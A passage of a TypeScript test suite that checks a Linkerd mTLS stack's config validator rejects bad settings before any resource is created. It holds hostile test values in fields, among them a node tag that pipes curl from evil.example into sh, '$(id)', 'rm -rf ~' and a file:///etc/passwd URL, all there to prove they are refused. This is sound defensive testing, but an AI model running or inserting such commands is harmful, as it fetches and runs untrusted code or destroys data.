/**
 * The config contract: presets, overrides, and bad configs rejected before any
 * resource is registered, naming the key, the value and what is allowed.
 */
import { strict as assert } from "node:assert";
import { ConfigError, OMIT, resolveConfig } from "../config";
import { configSchema } from "../config/contract";
import { configSetPath, parsePropertyPath } from "../config/configPath";
import { readStackConfig, runProgram } from "../tools/mockRuntime";
import { runStack, runStackOk, STRICT } from "./helpers";

interface BadConfig {
    why: string;
    stack?: string;
    overrides: Record<string, unknown>;
    key: string;
    /** Text the message must contain (what is allowed). */
    allowed: RegExp;
    /** The value the problem reports, when it is not the first override's (a label inside a map). */
    value?: unknown;
}

const [TRINO] = STRICT["mtls.authorizations"];
const GKE_PRIVATE = { masterIpv4CidrBlock: "172.16.0.0/28", network: "akko-vpc", nodeTag: "gke-akko" };
const INGRESS = {
    enabled: true,
    host: "linkerd.akko.example",
    authAnnotations: { "nginx.ingress.kubernetes.io/auth-url": "https://auth.akko.example" },
};

const BAD_CONFIGS: BadConfig[] = [
    {
        why: "unknown target",
        overrides: { target: "k8s" },
        key: "akko-mtls:target",
        allowed: /"k3d", "k3s", "eks", "gke"/,
    },
    {
        why: "missing target",
        overrides: { target: undefined },
        key: "akko-mtls:target",
        allowed: /"k3d", "k3s", "eks", "gke"/,
    },
    {
        why: "typo mtls.enable",
        overrides: { "mtls.enable": true },
        key: "akko-mtls:mtls.enable",
        allowed: /unknown key; allowed here: enabled/,
    },
    {
        why: "enabled is not a boolean",
        overrides: { "mtls.enabled": "yes" },
        key: "akko-mtls:mtls.enabled",
        allowed: /expected boolean/,
    },
    {
        why: "unknown top-level key",
        overrides: { "akko-mtls:mtsl": "{}" },
        key: "akko-mtls:mtsl",
        allowed: /allowed here: target, cluster, mtls/,
    },
    {
        why: "chart version range",
        overrides: { "linkerd.chartVersion": "^2026.8.3" },
        key: "akko-mtls:linkerd.chartVersion",
        allowed: /exact chart version/,
    },
    {
        why: "chart version latest",
        overrides: { "linkerd.chartVersion": "latest" },
        key: "akko-mtls:linkerd.chartVersion",
        allowed: /exact chart version/,
    },
    {
        why: "chart version with wildcard",
        overrides: { "linkerd.chartVersion": "2026.8.x" },
        key: "akko-mtls:linkerd.chartVersion",
        allowed: /exact chart version/,
    },
    {
        why: "issuer not shorter-lived than the anchor",
        overrides: { "identity.issuer.static.validityHours": 87600 },
        key: "akko-mtls:identity.issuer.static.validityHours",
        allowed: /shorter than identity.trustAnchor.validityHours \(87600\)/,
    },
    {
        why: "issuer validity as text",
        overrides: { "identity.issuer.static.validityHours": "8760" },
        key: "akko-mtls:identity.issuer.static.validityHours",
        allowed: /expected number/,
    },
    {
        why: "unknown issuer mode",
        overrides: { "identity.issuer.mode": "vault" },
        key: "akko-mtls:identity.issuer.mode",
        allowed: /"static", "certManager"/,
    },
    {
        why: "early renewal longer than the validity",
        overrides: { "identity.issuer.static.renewBeforeHours": 9000 },
        key: "akko-mtls:identity.issuer.static.renewBeforeHours",
        allowed: /shorter than identity.issuer.static.validityHours/,
    },
    {
        why: "negative anchor validity",
        overrides: { "identity.trustAnchor.validityHours": -1 },
        key: "akko-mtls:identity.trustAnchor.validityHours",
        allowed: /.+/,
    },
    {
        why: "HA on a single node",
        overrides: { "linkerd.highAvailability": true },
        key: "akko-mtls:linkerd.highAvailability",
        allowed: /must be false on the single-node target k3s/,
    },
    {
        why: "HA with one replica",
        stack: "eks",
        overrides: { "linkerd.controllerReplicas": 1 },
        key: "akko-mtls:linkerd.controllerReplicas",
        allowed: /at least 3/,
    },
    {
        why: "zero replicas",
        overrides: { "linkerd.controllerReplicas": 0 },
        key: "akko-mtls:linkerd.controllerReplicas",
        allowed: /at least 1\b/,
    },
    {
        why: "not a quantity",
        overrides: { "linkerd.proxy.resources.memory.request": "lots" },
        key: "akko-mtls:linkerd.proxy.resources.memory.request",
        allowed: /Kubernetes quantity/,
    },
    {
        why: "request above limit",
        overrides: { "linkerd.proxy.resources.memory.request": "1Gi" },
        key: "akko-mtls:linkerd.proxy.resources.memory.request",
        allowed: /must not exceed its limit \(128Mi\)/,
    },
    {
        why: "limit removed with null",
        stack: "k3d",
        overrides: { "linkerd.controlPlaneResources.destination.cpu.limit": null },
        key: "akko-mtls:linkerd.controlPlaneResources.destination.cpu.limit",
        allowed: /expected string/,
    },
    {
        why: "zero warning days",
        overrides: { "identity.trustAnchor.expiryWarningDays": 0 },
        key: "akko-mtls:identity.trustAnchor.expiryWarningDays",
        allowed: /at least 1\b/,
    },
    {
        why: "unknown iptables mode",
        overrides: { "linkerd.proxyInit.iptablesMode": "iptables" },
        key: "akko-mtls:linkerd.proxyInit.iptablesMode",
        allowed: /"nft", "legacy"/,
    },
    {
        why: "lower-case failure policy",
        overrides: { "linkerd.webhookFailurePolicy": "fail" },
        key: "akko-mtls:linkerd.webhookFailurePolicy",
        allowed: /"Ignore", "Fail"/,
    },
    {
        why: "plain-http chart repository",
        overrides: { "linkerd.repository": "http://helm.linkerd.io/edge" },
        key: "akko-mtls:linkerd.repository",
        allowed: /.+/,
    },
    {
        why: "unknown Gateway API mode",
        overrides: { "linkerd.gatewayApi": "skip" },
        key: "akko-mtls:linkerd.gatewayApi",
        allowed: /"install", "present"/,
    },
    {
        why: "no kube context",
        overrides: { "cluster.context": undefined },
        key: "akko-mtls:cluster.context",
        allowed: /is required/,
    },
    {
        why: "invalid trust domain",
        overrides: { "identity.trustDomain": "Cluster_Local" },
        key: "akko-mtls:identity.trustDomain",
        allowed: /DNS domain/,
    },
    {
        why: "cert-manager issuer renewing after its own expiry",
        overrides: { "identity.issuer.certManager.renewBeforeHours": 48 },
        key: "akko-mtls:identity.issuer.certManager.renewBeforeHours",
        allowed: /shorter than identity.issuer.certManager.durationHours \(48\)/,
    },
    {
        why: "cert-manager version without its v",
        overrides: { "certManager.chartVersion": "1.21.1" },
        key: "akko-mtls:certManager.chartVersion",
        allowed: /with the 'v'/,
    },
    {
        why: "cert-manager HA on a single node",
        overrides: { "certManager.highAvailability": true },
        key: "akko-mtls:certManager.highAvailability",
        allowed: /single-node target k3s/,
    },
    {
        why: "rotation image by tag",
        overrides: { "rotationJob.image": "node:24-alpine" },
        key: "akko-mtls:rotationJob.image",
        allowed: /pinned by digest/,
    },
    {
        why: "kubectl image with a short digest",
        overrides: { "rotationJob.kubectlImage": "alpine/k8s@sha256:abc" },
        key: "akko-mtls:rotationJob.kubectlImage",
        allowed: /pinned by digest/,
    },
    {
        why: "issuer alert threshold above the renewal window",
        overrides: { "rotationJob.issuerMinHoursLeft": 30 },
        key: "akko-mtls:rotationJob.issuerMinHoursLeft",
        allowed: /below the issuer's renewBeforeHours \(25\)/,
    },
    {
        why: "rotation window past midnight",
        overrides: { "rotationJob.windowStartHour": 24 },
        key: "akko-mtls:rotationJob.windowStartHour",
        allowed: /at most 23\b/,
    },
    {
        why: "unknown rotation phase",
        overrides: { "identity.trustAnchor.rotationPhase": 4 },
        key: "akko-mtls:identity.trustAnchor.rotationPhase",
        allowed: /.+/,
    },
    {
        why: "generation zero",
        overrides: { "identity.trustAnchor.generation": 0 },
        key: "akko-mtls:identity.trustAnchor.generation",
        allowed: /at least 1\b/,
    },
    {
        why: "a namespace listed twice",
        overrides: { "mtls.namespaces": ["akko", "spark", "akko"] },
        key: "akko-mtls:mtls.namespaces[2]",
        allowed: /lists "akko" twice/,
    },
    {
        why: "an invalid namespace name",
        overrides: { "mtls.namespaces": ["Akko_Data"] },
        key: "akko-mtls:mtls.namespaces[0]",
        allowed: /RFC 1123/,
    },
    {
        why: "meshing a system namespace",
        overrides: { "mtls.namespaces": ["kube-system"] },
        key: "akko-mtls:mtls.namespaces[0]",
        allowed: /system or mesh namespace/,
    },
    {
        why: "no meshed namespace",
        overrides: { "mtls.namespaces": [] },
        key: "akko-mtls:mtls.namespaces",
        allowed: /at least 1\b/,
    },

    // Maxima: validities and timeouts a provider or Kubernetes cannot hold, and safe integers only.
    {
        why: "a 10,000,000 h anchor (overflows the tls provider's duration)",
        overrides: { "identity.trustAnchor.validityHours": 10_000_000 },
        key: "akko-mtls:identity.trustAnchor.validityHours",
        allowed: /at most 175200\b/,
    },
    {
        why: "a 2^53 h anchor (not a safe integer)",
        overrides: { "identity.trustAnchor.validityHours": 2 ** 53 },
        key: "akko-mtls:identity.trustAnchor.validityHours",
        allowed: /must be an integer [0-9]+–[0-9]+: 2\^53 and beyond/,
    },
    {
        why: "a static issuer of 200,000 h",
        overrides: { "identity.issuer.static.validityHours": 200_000 },
        key: "akko-mtls:identity.issuer.static.validityHours",
        allowed: /must be 24–175199 h: `pulumi up` re-issues it/,
    },
    {
        why: "a static renewal window of 1,000,000 h",
        overrides: { "identity.issuer.static.renewBeforeHours": 1_000_000 },
        key: "akko-mtls:identity.issuer.static.renewBeforeHours",
        allowed: /at most 175200\b/,
    },
    {
        why: "a cert-manager issuer of 1,000,000 h",
        overrides: { "identity.issuer.certManager.durationHours": 1_000_000 },
        key: "akko-mtls:identity.issuer.certManager.durationHours",
        allowed: /must be 3–48 h: cert-manager renews it/,
    },
    {
        why: "a cert-manager renewal of 1,000,000 h",
        overrides: { "identity.issuer.certManager.renewBeforeHours": 1_000_000 },
        key: "akko-mtls:identity.issuer.certManager.renewBeforeHours",
        allowed: /at most 175200\b/,
    },
    {
        why: "an issuer alert threshold of 1,000,000 h",
        overrides: { "rotationJob.issuerMinHoursLeft": 1_000_000 },
        key: "akko-mtls:rotationJob.issuerMinHoursLeft",
        allowed: /at most 175200\b/,
    },
    {
        why: "a restart timeout over an hour",
        overrides: { "rotationJob.rolloutTimeoutSeconds": 3601, "rotationJob.deadlineMinutes": 120 },
        key: "akko-mtls:rotationJob.rolloutTimeoutSeconds",
        allowed: /at most 3600\b/,
    },
    {
        why: "the largest safe integer as a restart timeout",
        overrides: { "rotationJob.rolloutTimeoutSeconds": Number.MAX_SAFE_INTEGER },
        key: "akko-mtls:rotationJob.rolloutTimeoutSeconds",
        allowed: /at most 3600\b/,
    },
    {
        why: "a 2^53 restart timeout (not a safe integer)",
        overrides: { "rotationJob.rolloutTimeoutSeconds": 2 ** 53 },
        key: "akko-mtls:rotationJob.rolloutTimeoutSeconds",
        allowed: /must be an integer [0-9]+–[0-9]+: 2\^53 and beyond/,
    },
    {
        why: "an issuer alert threshold of 0 h (zod's 'Too small' before)",
        overrides: { "rotationJob.issuerMinHoursLeft": 0 },
        key: "akko-mtls:rotationJob.issuerMinHoursLeft",
        allowed: /must be at least 1: the daily check alerts when fewer hours than this are left on the issuer/,
    },
    {
        why: "a window of 0 h: the bound and what the key takes, in words",
        overrides: { "rotationJob.windowHours": 0 },
        key: "akko-mtls:rotationJob.windowHours",
        allowed: /^must be at least 1 \(integer 1–24\)$/,
    },
    {
        why: "a Job deadline over a day",
        overrides: { "rotationJob.deadlineMinutes": 1441 },
        key: "akko-mtls:rotationJob.deadlineMinutes",
        allowed: /at most 1440\b/,
    },
    {
        why: "an anchor threshold of 100,000 days",
        overrides: { "rotationJob.anchorMinDaysLeft": 100_000 },
        key: "akko-mtls:rotationJob.anchorMinDaysLeft",
        allowed: /at most 7300\b/,
    },

    // Zero resources: a zero limit kills the container.
    {
        why: "a CPU limit of 0",
        overrides: { "linkerd.proxy.resources.cpu.limit": "0" },
        key: "akko-mtls:linkerd.proxy.resources.cpu.limit",
        allowed: /must be more than zero: a zero limit kills the container/,
    },
    {
        why: "a memory limit of 0Mi",
        overrides: { "rotationJob.resources.memory.limit": "0Mi" },
        key: "akko-mtls:rotationJob.resources.memory.limit",
        allowed: /must be more than zero/,
    },
    {
        why: "a CPU request of 0m",
        overrides: { "viz.prometheus.resources.cpu.request": "0m" },
        key: "akko-mtls:viz.prometheus.resources.cpu.request",
        allowed: /must be more than zero/,
    },
    {
        why: "a CNI request above its limit",
        overrides: { "linkerd.cni.resources.memory.request": "1Gi" },
        key: "akko-mtls:linkerd.cni.resources.memory.request",
        allowed: /must not exceed its limit \(64Mi\)/,
    },

    // Thresholds beyond the anchor's validity.
    {
        why: "anchor check threshold = the anchor's validity (the daily Job would fail forever)",
        overrides: { "rotationJob.anchorMinDaysLeft": 3650 },
        key: "akko-mtls:rotationJob.anchorMinDaysLeft",
        allowed: /below the trust anchor's validity \(identity.trustAnchor.validityHours 87600 = 3650 days\)/,
    },
    {
        why: "anchor warning beyond the anchor's validity",
        overrides: { "identity.trustAnchor.expiryWarningDays": 4000 },
        key: "akko-mtls:identity.trustAnchor.expiryWarningDays",
        allowed: /below the trust anchor's validity/,
    },
    {
        why: "minHoursBetweenPhases 0",
        overrides: { "identity.trustAnchor.minHoursBetweenPhases": 0 },
        key: "akko-mtls:identity.trustAnchor.minHoursBetweenPhases",
        allowed: /at least 1, and at least the floor derived from identity.issuer.issuanceLifetime/,
    },

    // Kubernetes labels, annotations and names.
    {
        why: "a rule label key with a space",
        overrides: { "observability.ruleLabels": { "release name": "kps" } },
        key: 'akko-mtls:observability.ruleLabels["release name"]',
        allowed: /not a valid label key/,
        value: "kps",
    },
    {
        why: "a rule label value with a space",
        overrides: { "observability.ruleLabels": { release: "kube prometheus" } },
        key: "akko-mtls:observability.ruleLabels.release",
        allowed: /invalid label value/,
        value: "kube prometheus",
    },
    {
        why: "a rule label value over 63 characters",
        overrides: { "observability.ruleLabels": { release: "x".repeat(64) } },
        key: "akko-mtls:observability.ruleLabels.release",
        allowed: /at most 63/,
        value: "x".repeat(64),
    },
    {
        why: "a dashboards label key with a space",
        overrides: { "observability.grafanaDashboards.label": "grafana dashboard" },
        key: "akko-mtls:observability.grafanaDashboards.label",
        allowed: /not a valid label key/,
    },
    {
        why: "a dashboards label value starting with '-'",
        overrides: { "observability.grafanaDashboards.labelValue": "-1" },
        key: "akko-mtls:observability.grafanaDashboards.labelValue",
        allowed: /not a valid label value/,
    },
    {
        why: "a scraper selector with an empty label name",
        overrides: { "viz.prometheus.scraper.podSelector": { "app.kubernetes.io/": "prometheus" } },
        key: 'akko-mtls:viz.prometheus.scraper.podSelector["app.kubernetes.io/"]',
        allowed: /the name must not be empty/,
        value: "prometheus",
    },
    {
        why: "a scraper selector selecting every pod",
        overrides: { "viz.prometheus.scraper.podSelector": {} },
        key: "akko-mtls:viz.prometheus.scraper.podSelector",
        allowed: /at least one label/,
    },
    {
        why: "a server's selector with a bad prefix",
        overrides: { ...STRICT, "mtls.authorizations": [{ ...TRINO, podSelector: { "App.IO/name": "trino" } }] },
        key: 'akko-mtls:mtls.authorizations[0].podSelector["App.IO/name"]',
        allowed: /the prefix before '\/' must be a DNS subdomain/,
        value: "trino",
    },
    {
        why: "an auth annotation key with a space",
        stack: "eks",
        overrides: {
            "viz.dashboard.ingress": {
                ...INGRESS,
                authAnnotations: { "nginx.ingress.kubernetes.io/auth url": "https://auth" },
            },
        },
        key: 'akko-mtls:viz.dashboard.ingress.authAnnotations["nginx.ingress.kubernetes.io/auth url"]',
        allowed: /not a valid annotation key/,
        value: "https://auth",
    },
    {
        why: "a TLS Secret name with capitals and '_'",
        stack: "eks",
        overrides: { "viz.dashboard.ingress": { ...INGRESS, tlsSecretName: "Linkerd_TLS" } },
        key: "akko-mtls:viz.dashboard.ingress.tlsSecretName",
        allowed: /RFC 1123 subdomain/,
        value: "Linkerd_TLS",
    },
    {
        why: "an IngressClass name with a space",
        stack: "eks",
        overrides: { "viz.dashboard.ingress": { ...INGRESS, className: "nginx public" } },
        key: "akko-mtls:viz.dashboard.ingress.className",
        allowed: /RFC 1123 subdomain/,
        value: "nginx public",
    },
    {
        why: "a dashboard host with a 64-character label",
        stack: "eks",
        overrides: { "viz.dashboard.ingress": { ...INGRESS, host: `${"a".repeat(64)}.akko.example` } },
        key: "akko-mtls:viz.dashboard.ingress.host",
        allowed: /DNS host name/,
        value: `${"a".repeat(64)}.akko.example`,
    },
    {
        why: "a javascript: runbook URL",
        overrides: { "observability.runbookUrl": "javascript:alert(1)" },
        key: "akko-mtls:observability.runbookUrl",
        allowed: /http:\/\/ or https:\/\/ URL/,
    },
    {
        why: "a file: runbook URL",
        overrides: { "observability.runbookUrl": "file:///etc/passwd" },
        key: "akko-mtls:observability.runbookUrl",
        allowed: /http:\/\/ or https:\/\/ URL/,
    },

    // cert-manager's namespace.
    {
        why: "cert-manager in kube-system",
        overrides: { "certManager.namespace": "kube-system" },
        key: "akko-mtls:certManager.namespace",
        allowed: /not a system or mesh namespace/,
    },
    {
        why: "cert-manager in linkerd",
        overrides: { "certManager.namespace": "linkerd" },
        key: "akko-mtls:certManager.namespace",
        allowed: /not a system or mesh namespace/,
    },
    {
        why: "cert-manager in a meshed namespace",
        overrides: { "certManager.namespace": "akko" },
        key: "akko-mtls:certManager.namespace",
        allowed: /is a meshed namespace/,
    },

    // Strict authorizations.
    {
        why: "a client in a namespace that is not meshed",
        overrides: {
            ...STRICT,
            "mtls.authorizations": [{ ...TRINO, clients: ["etl.web.serviceaccount.identity.linkerd.cluster.local"] }],
        },
        key: "akko-mtls:mtls.authorizations[0].clients[0]",
        allowed: /names a namespace \(its second part\) that is not meshed/,
        value: "etl.web.serviceaccount.identity.linkerd.cluster.local",
    },
    {
        why: "a trust domain with a parenthesis (threw a SyntaxError before)",
        overrides: { ...STRICT, "identity.trustDomain": "cluster.local(" },
        key: "akko-mtls:identity.trustDomain",
        allowed: /DNS domain/,
        value: "cluster.local(",
    },

    // Lists that repeat an entry.
    {
        why: "an opaque port listed twice",
        overrides: { "mtls.namespaceOptions": { akko: { opaquePorts: [5432, 5432] } } },
        key: "akko-mtls:mtls.namespaceOptions.akko.opaquePorts[1]",
        allowed: /repeats item 0: list each entry once/,
        value: 5432,
    },
    {
        why: "a skipped port listed twice",
        overrides: { "mtls.namespaceOptions": { akko: { skipOutboundPorts: [25, 587, 25] } } },
        key: "akko-mtls:mtls.namespaceOptions.akko.skipOutboundPorts[2]",
        allowed: /repeats item 0/,
        value: 25,
    },
    {
        why: "an Alertmanager listed twice",
        overrides: { "viz.prometheus.alertmanagers": ["http://am:9093", "http://am:9093"] },
        key: "akko-mtls:viz.prometheus.alertmanagers[1]",
        allowed: /repeats item 0/,
        value: "http://am:9093",
    },
    {
        why: "a client listed twice",
        overrides: {
            ...STRICT,
            "mtls.authorizations": [{ ...TRINO, clients: [TRINO.clients![0], TRINO.clients![0]] }],
        },
        key: "akko-mtls:mtls.authorizations[0].clients[1]",
        allowed: /repeats item 0/,
        value: TRINO.clients![0],
    },
    {
        why: "a network listed twice",
        overrides: { "viz.prometheus.readers": { networks: ["10.0.0.0/8", "10.0.0.0/8"] } },
        key: "akko-mtls:viz.prometheus.readers.networks[1]",
        allowed: /repeats item 0/,
        value: "10.0.0.0/8",
    },

    // Blank names.
    {
        why: "a blank kube context",
        overrides: { "cluster.context": " " },
        key: "akko-mtls:cluster.context",
        allowed: /a kubeconfig context name: letters, digits and/,
    },
    {
        why: "a kube context with a trailing space",
        overrides: { "cluster.context": "netcup " },
        key: "akko-mtls:cluster.context",
        allowed: /no spaces/,
    },
    {
        why: "an empty dashboards folder",
        overrides: { "observability.grafanaDashboards.folder": "" },
        key: "akko-mtls:observability.grafanaDashboards.folder",
        allowed: /must not be empty/,
    },
    {
        why: "a port name without a letter",
        overrides: { ...STRICT, "mtls.authorizations": [{ ...TRINO, port: "80-80" }] },
        key: "akko-mtls:mtls.authorizations[0].port",
        allowed: /at least one letter/,
        value: "80-80",
    },

    // Zero Prometheus retention: Prometheus reads 0 as its default (time) or no limit (size).
    {
        why: "a retention of 0h",
        overrides: { "viz.prometheus.retention": "0h" },
        key: "akko-mtls:viz.prometheus.retention",
        allowed: /more than zero/,
    },
    {
        why: "a retention size of 0MB",
        overrides: { "viz.prometheus.retentionSize": "0MB" },
        key: "akko-mtls:viz.prometheus.retentionSize",
        allowed: /more than zero/,
    },

    // Hostile input (issue 17): each was accepted, or refused only after resources were registered.
    ...(["gke-akko; curl http://evil.example/x | sh", "gke-akko\n--allow=all", "GKE_AKKO", "-gke", "a".repeat(64)].map(
        (nodeTag) => ({
            why: `a GKE node tag ${JSON.stringify(nodeTag.slice(0, 30))} (printed into the gcloud command operators copy)`,
            stack: "gke",
            overrides: { "cluster.gkePrivate": { ...GKE_PRIVATE, nodeTag } },
            key: "akko-mtls:cluster.gkePrivate.nodeTag",
            allowed: /a GCE network tag: lower-case letters, digits and -/,
            value: nodeTag,
        }),
    ) as BadConfig[]),
    {
        why: "a GKE network with a shell character",
        stack: "gke",
        overrides: { "cluster.gkePrivate": { ...GKE_PRIVATE, network: "vpc$(id)" } },
        key: "akko-mtls:cluster.gkePrivate.network",
        allowed: /a GCP name: .*at most 46 characters \(the firewall rule <network>-linkerd-webhooks must fit in 63\)/,
        value: "vpc$(id)",
    },
    ...(["0.0.0.0/0", "172.16.0.0/24", "172.16.0.1/28", "8.8.8.0/28"].map((masterIpv4CidrBlock) => ({
        why: `a GKE control-plane range ${masterIpv4CidrBlock}`,
        stack: "gke",
        overrides: { "cluster.gkePrivate": { ...GKE_PRIVATE, masterIpv4CidrBlock } },
        key: "akko-mtls:cluster.gkePrivate.masterIpv4CidrBlock",
        allowed: /must be a \/28 network in private address space/,
        value: masterIpv4CidrBlock,
    })) as BadConfig[]),
    {
        why: "a kube context that is a shell command",
        overrides: { "cluster.context": "netcup; rm -rf ~" },
        key: "akko-mtls:cluster.context",
        allowed: /no spaces, quotes or shell characters/,
    },
    {
        why: "a kubeconfig path with a newline",
        overrides: { "cluster.kubeconfig": "/home/ops/.kube/config\nx" },
        key: "akko-mtls:cluster.kubeconfig",
        allowed: /control or invisible characters \(found U\+000A/,
    },
    ...(["/", "/opt/../bin", "/opt/cni\nbin", "/opt//cni", "/opt/cni/", "opt/cni"].map((binDir) => ({
        why: `a CNI binDir ${JSON.stringify(binDir)}`,
        overrides: { "linkerd.cni.binDir": binDir },
        key: "akko-mtls:linkerd.cni.binDir",
        allowed: binDir === "/" ? /must not be the root/ : /an absolute, normalized path/,
    })) as BadConfig[]),
    {
        why: "a CNI netDir of /",
        overrides: { "linkerd.cni.netDir": "/" },
        key: "akko-mtls:linkerd.cni.netDir",
        allowed: /must not be the root/,
    },
    {
        why: 'a proxy memory limit of "1" (every proxy OOM-killed)',
        overrides: { "linkerd.proxy.resources.memory.limit": "1" },
        key: "akko-mtls:linkerd.proxy.resources.memory.limit",
        allowed: /at least 32Mi: below that the container is OOM-killed at start/,
    },
    {
        why: "a proxy memory of 1000Ti",
        stack: "eks",
        overrides: { "linkerd.proxy.resources.memory.limit": "1000Ti" },
        key: "akko-mtls:linkerd.proxy.resources.memory.limit",
        allowed: /at most 64Gi: no component of the mesh needs more/,
    },
    {
        why: "128m of memory (milli, not mebi)",
        overrides: { "linkerd.proxy.resources.memory.request": "128m" },
        key: "akko-mtls:linkerd.proxy.resources.memory.request",
        allowed: /at least 4Mi.*\(128m is 0\.128 bytes: m means milli; write Mi for mebibytes\)/,
    },
    {
        why: "a CPU limit of 1m",
        overrides: { "rotationJob.resources.cpu.limit": "1m" },
        key: "akko-mtls:rotationJob.resources.cpu.limit",
        allowed: /at least 10m/,
    },
    {
        why: "a CPU request finer than 1m",
        overrides: { "rotationJob.resources.cpu.request": "0.0005" },
        key: "akko-mtls:rotationJob.resources.cpu.request",
        allowed: /at least 1m/,
    },
    {
        why: "a retention of 100000000y",
        overrides: { "viz.prometheus.retention": "100000000y" },
        key: "akko-mtls:viz.prometheus.retention",
        allowed: /at most 10y/,
    },
    {
        why: "a retention of 5m",
        overrides: { "viz.prometheus.retention": "5m" },
        key: "akko-mtls:viz.prometheus.retention",
        allowed: /at least 1h/,
    },
    {
        why: "a retention size of 1000000TB",
        overrides: { "viz.prometheus.retentionSize": "1000000TB" },
        key: "akko-mtls:viz.prometheus.retentionSize",
        allowed: /at most 100TB/,
    },
    {
        why: "a trust-domain label over 63 characters",
        overrides: { "identity.trustDomain": `${"a".repeat(64)}.local` },
        key: "akko-mtls:identity.trustDomain",
        allowed: /each at most 63 characters/,
    },
    {
        why: "a renewBeforeHours of 1 (the daily check's threshold would be 0)",
        overrides: { "identity.issuer.certManager.renewBeforeHours": 1 },
        key: "akko-mtls:identity.issuer.certManager.renewBeforeHours",
        allowed: /at least 2: the daily check alerts when fewer than renewBeforeHours - 1 hours are left/,
    },
    {
        why: "a static renewBeforeHours of 1",
        stack: "k3d",
        overrides: { "identity.issuer.static.renewBeforeHours": 1 },
        key: "akko-mtls:identity.issuer.static.renewBeforeHours",
        allowed: /at least 2/,
    },
    {
        why: "a cert-manager issuer of 72 h (refused by the policy pack)",
        overrides: { "identity.issuer.certManager.durationHours": 72 },
        key: "akko-mtls:identity.issuer.certManager.durationHours",
        allowed: /must be 3–48 h/,
    },
    {
        why: "a runbook URL with template braces (Prometheus could not parse the rules)",
        overrides: { "observability.runbookUrl": "https://wiki.example/runbooks/{{ $labels.alertname }}" },
        key: "akko-mtls:observability.runbookUrl",
        allowed: /no space, quote, brace or control character/,
    },
    {
        why: "a runbook URL with a newline (the URL parser drops it silently)",
        overrides: { "observability.runbookUrl": "https://wiki.example/run\nbook" },
        key: "akko-mtls:observability.runbookUrl",
        allowed: /no space, quote, brace or control character/,
    },
    {
        why: "an Alertmanager URL with a password (Prometheus' static target drops it)",
        overrides: { "viz.prometheus.alertmanagers": ["http://admin:hunter2@am.monitoring.svc:9093"] },
        key: "akko-mtls:viz.prometheus.alertmanagers[0]",
        allowed: /without a user or password/,
        value: "http://admin:hunter2@am.monitoring.svc:9093",
    },
    {
        why: "a chart repository with credentials",
        overrides: { "linkerd.repository": "https://user:token@helm.linkerd.io/edge" },
        key: "akko-mtls:linkerd.repository",
        allowed: /without a user or password/,
    },
    {
        why: "an empty forward-auth annotation",
        stack: "eks",
        overrides: {
            "viz.dashboard.ingress": { ...INGRESS, authAnnotations: { "nginx.ingress.kubernetes.io/auth-url": "" } },
        },
        key: 'akko-mtls:viz.dashboard.ingress.authAnnotations["nginx.ingress.kubernetes.io/auth-url"]',
        allowed: /must not be empty: an empty forward-auth annotation asks no one/,
        value: "",
    },
    {
        why: "a configuration snippet as the dashboard's auth annotation",
        stack: "eks",
        overrides: {
            "viz.dashboard.ingress": {
                ...INGRESS,
                authAnnotations: { "nginx.ingress.kubernetes.io/configuration-snippet": "allow all;" },
            },
        },
        key: 'akko-mtls:viz.dashboard.ingress.authAnnotations["nginx.ingress.kubernetes.io/configuration-snippet"]',
        allowed:
            /is not a forward-auth annotation; the gates are nginx\.ingress\.kubernetes\.io\/auth-url \(ingress-nginx\)/,
        value: "allow all;",
    },
    {
        why: "an ALB Ingress whose auth type is none",
        stack: "eks",
        overrides: {
            "viz.dashboard.ingress": { ...INGRESS, authAnnotations: { "alb.ingress.kubernetes.io/auth-type": "none" } },
        },
        key: 'akko-mtls:viz.dashboard.ingress.authAnnotations["alb.ingress.kubernetes.io/auth-type"]',
        allowed: /must be "oidc" or "cognito"/,
        value: "none",
    },
    {
        why: "a dashboard Ingress with viz off (ignored)",
        stack: "eks",
        overrides: { "viz.enabled": false, "observability.prometheusOperator": true, "viz.dashboard.ingress": INGRESS },
        key: "akko-mtls:viz.dashboard.ingress.enabled",
        allowed: /needs viz\.enabled true/,
        value: true,
    },
    {
        why: "a Prometheus URL with the bundled Prometheus (ignored)",
        overrides: { "viz.prometheus.url": "http://prometheus.monitoring.svc:9090" },
        key: "akko-mtls:viz.prometheus.url",
        allowed: /applies only to an external Prometheus/,
    },
    {
        why: "k3s Traefik values with a controller in its own namespace (ignored)",
        stack: "eks",
        overrides: {
            "mtls.ingress.k3sTraefikValues": { ports: { web: { port: 8000 } } },
            "mtls.ingress.enabled": true,
        },
        key: "akko-mtls:mtls.ingress.k3sTraefikValues",
        allowed: /applies only to k3s' Traefik/,
    },
    {
        why: "Traefik values nested 700 deep (crashed after 55 resources)",
        overrides: { "mtls.ingress.k3sTraefikValues": nested(700) },
        // Cut where the walk stops: 32 levels from the top-level key.
        key: `akko-mtls:mtls.ingress.k3sTraefikValues${".a".repeat(29)}`,
        allowed: /nests deeper than 32 levels/,
        value: OMIT,
    },
    {
        why: "Traefik values nested 20 deep",
        overrides: { "mtls.ingress.k3sTraefikValues": nested(20) },
        key: "akko-mtls:mtls.ingress.k3sTraefikValues",
        allowed: /must nest at most 16 levels deep/,
    },
    {
        why: "Traefik values of 100 KiB",
        overrides: { "mtls.ingress.k3sTraefikValues": { blob: "x".repeat(100 * 1024) } },
        key: "akko-mtls:mtls.ingress.k3sTraefikValues",
        allowed: /must be at most 64 KiB as JSON/,
    },
];

/** `{ a: { a: … { a: 1 } } }`, `depth` levels deep. */
function nested(depth: number): Record<string, unknown> {
    let value: Record<string, unknown> = { a: 1 };
    for (let i = 1; i < depth; i++) value = { a: value };
    return value;
}

describe("bad configs are rejected before any resource is registered", () => {
    it(`covers at least 15 cases (${BAD_CONFIGS.length})`, () => assert.ok(BAD_CONFIGS.length >= 15));

    for (const bad of BAD_CONFIGS) {
        it(`${bad.why}: ${bad.key}`, async () => {
            const run = await runStack(bad.stack ?? "netcup", { "mtls.enabled": true, ...bad.overrides });
            assert.ok(run.error instanceof ConfigError, `expected a ConfigError, got ${run.error}`);
            const problem = run.error.problems.find((p) => p.key === bad.key);
            assert.ok(problem, `no problem names ${bad.key}: ${run.error.message}`);
            assert.match(problem.message, bad.allowed);
            const [setKey, set] = Object.entries(bad.overrides)[0];
            const reported =
                "value" in bad
                    ? bad.value
                    : setKey.startsWith("mtls.namespaces") && problem.key !== "akko-mtls:mtls.namespaces"
                      ? (set as string[])[Number(/\[([0-9]+)\]$/.exec(problem.key)![1])]
                      : set;
            if (typeof set !== "string" || !set.startsWith("{"))
                assert.deepEqual(problem.value, reported, "the value found is reported");
            assert.ok(run.error.message.includes(bad.key), "the message names the key");
            // Nothing of the program (at most the stack resource itself), no Kubernetes object.
            assert.deepEqual(
